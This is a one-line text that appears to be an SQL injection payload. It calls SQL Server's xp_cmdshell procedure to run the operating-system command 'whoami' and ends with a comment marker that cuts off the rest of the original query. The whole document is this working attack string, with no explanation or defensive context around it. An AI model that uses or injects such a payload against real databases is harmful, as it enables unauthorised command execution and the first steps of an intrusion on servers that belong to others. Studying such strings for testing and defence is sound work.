EXEC master..xp_cmdshell N'whoami'; -- here
